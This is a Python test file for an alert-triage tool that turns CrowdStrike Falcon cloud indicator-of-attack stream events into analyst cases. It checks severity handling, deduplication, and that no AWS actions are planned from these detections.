CLOUD_STREAM = "elastic-integrations__crowdstrike_falcon_test-falcon-cspmioa-streaming.json"
CLOUD_STREAM_ID = (
    "XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX:cspm-ioa:249:XXXXXXXXXXXX:-:1663011160:AIDAXRCSSEFWEAH3BLR2Z:-"
)


def test_a_cloud_indicator_of_attack_from_the_stream_is_a_case_with_what_an_analyst_reads() -> None:
    # Given the real CSPMIOAStreamingEvent: an IAM user terminated an EC2 instance, from 81.2.69.144
    document = load(CLOUD_STREAM)

    # When intake reads it
    alert = the_alert(document)

    # Then it is a case: the policy and its tactic and technique, High as its name says, the caller's
    # address looked up, the user, the product and the customer named
    assert alert.source == "falcon"
    assert alert.type == "EC2 instance manually deleted by IAM user"
    assert alert.title == "EC2 instance manually deleted by IAM user (Impact: Data Destruction)"
    assert (alert.severity.score, alert.severity.label) == (7.0, "high")
    assert looked_up(alert) == {"81.2.69.144"}
    assert alert.vendor is not None
    assert (alert.vendor.product, alert.vendor.user) == ("Falcon Cloud Security", "cs_internal_service_acct")
    assert alert.vendor.tenant == "XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"
    # And the time is the cloud API call's, the AWS account and the call named for the analyst
    assert alert.created_at.isoformat() == "2022-09-12T19:32:40+00:00"
    assert (
        "event.AccountId: the detection names 'aws' account 'XXXXXXXXXXXX' in no Region (the API call EC2"
        " TerminateInstances); vtriage acts on a Falcon alert nowhere" in " ".join(alert.notes)
    )
    # And, CrowdStrike giving it no id, its id says what tells it from another detection
    assert alert.id == CLOUD_STREAM_ID


def test_a_cloud_detection_is_read_for_its_severity_name_never_its_undocumented_number() -> None:
    # Given the real event (Severity 1 beside SeverityName High), rated Medium, and with no name at all
    medium = rated(CLOUD_STREAM, "Severity", 1, "Medium")
    nameless = rated(CLOUD_STREAM, "Severity", 1, None)

    # When intake reads them
    read_medium, read_nameless = the_alert(medium), the_alert(nameless)

    # Then the name is the severity, with no disagreement to note (1 is no informational here)
    assert read_medium.severity.label == "medium"
    assert not any("Severity" in note for note in read_medium.notes)
    # And without a name, critical so that a person sees it, saying why
    assert read_nameless.severity.label == "critical"
    assert any(
        note.startswith("event.SeverityName: missing (a cloud detection's Severity number is on a scale")
        and "severity guessed" in note
        for note in read_nameless.notes
    )


def test_a_cloud_detection_is_never_acted_on_in_aws_even_in_the_deployments_own_account() -> None:
    # Given the real event naming the deployment's own account and Region, its caller's address malicious
    document = load(CLOUD_STREAM)
    document["event"] |= {"AccountId": "000000000001", "Region": "us-east-1"}
    alert = the_alert(document)
    place = Place(own_account="000000000001", regions=frozenset({"us-east-1"}))
    malicious = [IocOutcome(type=IocType.IP, value="81.2.69.144", found_at="x", verdict=Verdict.MALICIOUS)]

    # When eligibility decides for the detector channel, and the playbooks plan
    allowed = eligibility(alert, Provenance(channel="detector"), place, "approval")
    planned = plan_actions(allowed.applied_to(alert), malicious)

    # Then no AWS action may run and none is planned: a person decides, from its ticket
    assert (alert.account, alert.region) == ("none", "none")
    assert any("names no AWS account or Region" in reason for reason in allowed.not_actionable)
    assert planned == []
    assert alert.resources == ()
    assert any("account '000000000001' in Region 'us-east-1'" in note for note in alert.notes)


def test_a_cloud_detection_names_the_resource_it_saw_and_two_resources_are_two_cases() -> None:
    # Given the real event naming an instance by the fields Falcon's cloud events carry (ResourceId,
    # ResourceIdType, ResourceName, as its CSPMSearchStreamingEvent does), and the same on another one
    document = load(CLOUD_STREAM)
    document["event"] |= {
        "ResourceId": "i-0108fce80e5ab5129",
        "ResourceIdType": "Instance Id",
        "ResourceName": "",
    }
    other = copy.deepcopy(document)
    other["event"]["ResourceId"] = "i-0aaaaaaaaaaaaaaaa"

    # When intake reads them
    first, second = the_alert(document), the_alert(other)

    # Then each is about its instance, never a resource to act on, and they are two cases
    assert first.subjects == (Subject(type="Instance Id", id="i-0108fce80e5ab5129"),)
    assert first.resources == ()
    assert first.case_id != second.case_id
    assert first.repeat_key != second.repeat_key


def test_a_cloud_detection_read_again_at_another_offset_is_the_same_case() -> None:
    # Given the real event, and the same event delivered again after a reconnect (another offset)
    event = load(CLOUD_STREAM)
    again = copy.deepcopy(event)
    again["metadata"]["offset"] = 54712999

    # Then it is one case
    assert the_alert(event).case_id == the_alert(again).case_id


# Elastic's test events of these types (test-falcon-incident-summary.log, -identity-protection-incident.log,
# -customer-ioc-event.log, elastic/integrations), each reduced to what says what it is.
NOT_DETECTIONS = [
    (
        "IncidentSummaryEvent",
        {"IncidentID": "inc:123:abc", "State": "open", "FineScore": 0.5, "HostID": "TESTHOSTID"},
        "an incident groups detections",
    ),
    (
        "IdentityProtectionEvent",
        {
            "IncidentType": "UNUSUAL_ENDPOINT_USE",
            "IdentityProtectionIncidentId": "INC-123",
            "NumbersOfAlerts": 1,
        },
        "Identity Protection incidents: IdpDetectionSummaryEvent",
    ),
    (
        "CustomerIOCEvent",
        {"ComputerName": "DESKTOP-AAAAAAA", "IPv4": "203.0.113.5", "DeviceId": "a" * 32},
        "the customer's own indicators",
    ),
]


@pytest.mark.parametrize(
    ("event_type", "event", "said"), NOT_DETECTIONS, ids=[row[0] for row in NOT_DETECTIONS]
)
def test_stream_events_that_group_or_sight_detections_are_ignored_saying_where_the_detections_go(
    event_type: str, event: dict[str, Any], said: str
) -> None:
    # Given a stream event that is no detection of its own
    document = {
        "metadata": {"customerIDString": "123123abcd", "offset": 2, "eventType": event_type},
        "event": event,
    }

    # When intake reads it
    result = read(document)

    # Then no case, and the reason says what it is and where its detections are triaged
    assert result.alerts == ()
    [ignored] = result.ignored
    assert f"{event_type!r}, not a detection summary" in ignored.reason
    assert said in ignored.reason
